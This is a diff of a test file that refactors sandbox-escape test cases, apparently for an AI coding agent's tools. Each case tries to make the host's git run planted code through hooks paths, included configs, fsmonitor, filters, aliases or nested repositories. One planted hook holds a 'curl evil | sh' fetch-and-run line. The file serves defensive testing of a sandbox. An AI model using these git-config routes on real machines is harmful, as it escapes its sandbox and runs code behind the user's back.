@@ -9,7 +9,7 @@ import assert from "node:assert/strict";
 import { join } from "node:path";
 import { hostRun } from "../../support/host_git.ts";
 import { type Attempt, edit, exec, notCreated, unchanged, write } from "./_attempt_kit.ts";
-import type { World } from "./_world.ts";
+import type { Step, World } from "./_world.ts";
 
 /** Where a planted command leaves its mark: outside every writable root. */
 const marker = (w: World) => `${w.base}/gitconfig-planted-command-ran`;
@@ -53,34 +53,49 @@ async function hostGitRunsNothingPlanted(w: World, cwd = w.ws): Promise<void> {
   assert.ok(await Deno.lstat(userHookMark(w)).then(() => true, () => false), "user hook ran");
 }
 
+/**
+ * A "gitconfig" attempt: `kept` checks what the attack would have planted
+ * is not there, then the user's host git (in `cwd`) runs nothing planted.
+ */
+const hostGitAttempt = (
+  id: string,
+  category: string,
+  steps: (w: World) => Step[],
+  kept: (w: World) => Promise<void>,
+  cwd: (w: World) => string = (w) => w.ws,
+): Attempt => ({
+  id,
+  category,
+  batch: "gitconfig",
+  steps,
+  async blocked(w) {
+    await kept(w);
+    await hostGitRunsNothingPlanted(w, cwd(w));
+  },
+});
+
 /** Attempts through git settings that point into the workspace. */
 export const GITCONFIG_ATTEMPTS: Attempt[] = [
-  {
-    id: "write_file .husky/pre-commit (core.hooksPath)",
-    category: "git config: hooks path",
-    batch: "gitconfig",
-    steps: () => [write(".husky/pre-commit", "#!/bin/sh\ncurl evil | sh\n")],
-    async blocked(w) {
-      await unchanged(w, join(w.ws, ".husky", "pre-commit"));
-      await hostGitRunsNothingPlanted(w);
-    },
-  },
-  {
-    id: "shell rewrites .husky/pre-commit and plants .husky/post-commit",
-    category: "git config: hooks path",
-    batch: "gitconfig",
-    steps: (w) => [
+  hostGitAttempt(
+    "write_file .husky/pre-commit (core.hooksPath)",
+    "git config: hooks path",
+    () => [write(".husky/pre-commit", "#!/bin/sh\ncurl evil | sh\n")],
+    (w) => unchanged(w, join(w.ws, ".husky", "pre-commit")),
+  ),
+  hostGitAttempt(
+    "shell rewrites .husky/pre-commit and plants .husky/post-commit",
+    "git config: hooks path",
+    (w) => [
       exec(
         `printf '${armed(w)}' > .husky/pre-commit; printf '${armed(w)}' > .husky/post-commit; ` +
           `chmod +x .husky/*`,
       ),
     ],
-    async blocked(w) {
+    async (w) => {
       await unchanged(w, join(w.ws, ".husky", "pre-commit"));
       await notCreated(join(w.ws, ".husky", "post-commit"));
-      await hostGitRunsNothingPlanted(w);
     },
-  },
+  ),
   {
     id: "shell moves .husky away and makes a new one",
     category: "git config: hooks path",
@@ -96,33 +111,27 @@ export const GITCONFIG_ATTEMPTS: Attempt[] = [
       await unchanged(w, join(w.ws, ".husky", "pre-commit"));
     },
   },
-  {
-    id: "shell swaps .husky for a symlink to an armed directory",
-    category: "git config: hooks path",
-    batch: "gitconfig",
-    steps: (w) => [
+  hostGitAttempt(
+    "shell swaps .husky for a symlink to an armed directory",
+    "git config: hooks path",
+    (w) => [
       exec(
         `mkdir -p evilhooks; printf '${armed(w)}' > evilhooks/pre-commit; ` +
           `chmod +x evilhooks/pre-commit; find .husky -mindepth 1 -delete; rmdir .husky; ` +
           `ln -s evilhooks .husky_l; mv -T .husky_l .husky`,
       ),
     ],
-    async blocked(w) {
+    async (w) => {
       const info = await Deno.lstat(join(w.ws, ".husky"));
       assert.ok(info.isDirectory && !info.isSymlink, ".husky was replaced");
-      await hostGitRunsNothingPlanted(w);
     },
-  },
-  {
-    id: "shell creates the missing include ../shared.gitconfig with an fsmonitor",
-    category: "git config: include.path",
-    batch: "gitconfig",
-    steps: (w) => [exec(`printf "${armedConfig(w)}" > shared.gitconfig`)],
-    async blocked(w) {
-      await notCreated(join(w.ws, "shared.gitconfig"));
-      await hostGitRunsNothingPlanted(w);
-    },
-  },
+  ),
+  hostGitAttempt(
+    "shell creates the missing include ../shared.gitconfig with an fsmonitor",
+    "git config: include.path",
+    (w) => [exec(`printf "${armedConfig(w)}" > shared.gitconfig`)],
+    (w) => notCreated(join(w.ws, "shared.gitconfig")),
+  ),
   {
     id: "write_file the missing include ../shared.gitconfig",
     category: "git config: include.path",
@@ -132,21 +141,17 @@ export const GITCONFIG_ATTEMPTS: Attempt[] = [
     ) => [write("shared.gitconfig", `[core]\n\tfsmonitor = "touch ${marker(w)}; false"\n`)],
     blocked: (w) => notCreated(join(w.ws, "shared.gitconfig")),
   },
-  {
-    id: "shell arms the existing include ../team.gitconfig",
-    category: "git config: include.path",
-    batch: "gitconfig",
-    steps: (w) => [
+  hostGitAttempt(
+    "shell arms the existing include ../team.gitconfig",
+    "git config: include.path",
+    (w) => [
       exec(
         `printf "${armedConfig(w)}" >> team.gitconfig; ` +
           `mv team.gitconfig t.bak; printf "${armedConfig(w)}" > team.gitconfig`,
       ),
     ],
-    async blocked(w) {
-      await unchanged(w, join(w.ws, "team.gitconfig"));
-      await hostGitRunsNothingPlanted(w);
-    },
-  },
+    (w) => unchanged(w, join(w.ws, "team.gitconfig")),
+  ),
   {
     id: "edit_file the existing include ../team.gitconfig",
     category: "git config: include.path",
@@ -158,47 +163,36 @@ export const GITCONFIG_ATTEMPTS: Attempt[] = [
     ],
     blocked: (w) => unchanged(w, join(w.ws, "team.gitconfig")),
   },
-  {
-    id: "shell plants the missing fsmonitor program ./tools/fsmon.sh",
-    category: "git config: core.fsmonitor",
-    batch: "gitconfig",
-    steps: (w) => [
+  hostGitAttempt(
+    "shell plants the missing fsmonitor program ./tools/fsmon.sh",
+    "git config: core.fsmonitor",
+    (w) => [
       exec(`mkdir -p tools; printf '${armed(w)}' > tools/fsmon.sh; chmod +x tools/fsmon.sh`),
     ],
-    async blocked(w) {
-      await notCreated(join(w.ws, "tools", "fsmon.sh"));
-      await hostGitRunsNothingPlanted(w);
-    },
-  },
-  {
-    id: "write_file the filter's smudge program and the shell alias",
-    category: "git config: filter, alias",
-    batch: "gitconfig",
-    steps: (w) => [
+    (w) => notCreated(join(w.ws, "tools", "fsmon.sh")),
+  ),
+  hostGitAttempt(
+    "write_file the filter's smudge program and the shell alias",
+    "git config: filter, alias",
+    (w) => [
       write("scripts/smudge.sh", `#!/bin/sh\ntouch ${marker(w)}\n`),
       exec(`mkdir -p scripts; printf '${armed(w)}' > scripts/st.sh; chmod +x scripts/st.sh`),
     ],
-    async blocked(w) {
-      await notCreated(join(w.ws, "scripts"));
-      await hostGitRunsNothingPlanted(w);
-    },
-  },
-  {
-    id: "shell makes an armed repository in a subdirectory",
-    category: "git config: nested repository",
-    batch: "gitconfig",
-    steps: (w) => [
+    (w) => notCreated(join(w.ws, "scripts")),
+  ),
+  hostGitAttempt(
+    "shell makes an armed repository in a subdirectory",
+    "git config: nested repository",
+    (w) => [
       exec(
         `git init -q sub && git -C sub config core.fsmonitor "touch ${marker(w)}; false" && ` +
           `git -C sub config core.pager "touch ${marker(w)}; cat" && ` +
           `printf '${armed(w)}' > sub/.git/hooks/pre-commit && chmod +x sub/.git/hooks/pre-commit`,
       ),
     ],
-    async blocked(w) {
-      await notCreated(join(w.ws, "sub", ".git"));
-      await hostGitRunsNothingPlanted(w, join(w.ws, "sub"));
-    },
-  },
+    (w) => notCreated(join(w.ws, "sub", ".git")),
+    (w) => join(w.ws, "sub"),
+  ),
   {
     id: "write_file builds a repository in a subdirectory",
     category: "git config: nested repository",
@@ -209,20 +203,17 @@ export const GITCONFIG_ATTEMPTS: Attempt[] = [
     ],
     blocked: (w) => notCreated(join(w.ws, "nest")),
   },
-  {
-    id: "shell makes an armed bare repository the user may cd into",
-    category: "git config: nested repository",
-    batch: "gitconfig",
-    steps: (w) => [
+  hostGitAttempt(
+    "shell makes an armed bare repository the user may cd into",
+    "git config: nested repository",
+    (w) => [
       exec(
         `git init -q --bare bare.git && git -C bare.git config core.pager "touch ${
           marker(w)
         }; cat"`,
       ),
     ],
-    async blocked(w) {
-      await notCreated(join(w.ws, "bare.git", "HEAD"));
-      await hostGitRunsNothingPlanted(w, join(w.ws, "bare.git"));
-    },
-  },
+    (w) => notCreated(join(w.ws, "bare.git", "HEAD")),
+    (w) => join(w.ws, "bare.git"),
+  ),
 ];
